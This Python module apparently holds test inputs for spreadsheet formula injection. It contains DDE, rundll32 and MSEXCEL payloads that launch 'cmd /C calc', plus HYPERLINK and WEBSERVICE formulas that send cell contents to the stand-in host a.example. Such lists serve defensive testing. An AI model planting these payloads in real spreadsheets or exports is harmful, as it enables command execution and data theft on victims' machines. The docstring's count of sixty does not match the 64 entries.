"""Sixty texts that spreadsheet programs would run, fetch or call, if a cell held them as they are."""

SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "|",
    "%",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "\u200b=",
    "\ufeff=",
    "\u202e=",
    "＝",
    "＋",
    "－",
    "＠",
)
BODIES = ("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0")
WHOLE = (
    '=HYPERLINK("http://a.example/?x="&A1,"open")', '=WEBSERVICE("http://a.example/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"1\")",
    '=IMPORTXML("http://a.example","//a")', '=IMAGE("http://a.example/x.png")', "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=MSEXCEL|\'\\..\\..\\calc.exe\'!""', "=rundll32|'URL.dll,OpenURL calc.exe'!A",
)  # fmt: skip
FORMULAS = (*(sign + body for sign in SIGNS for body in BODIES), *WHOLE)
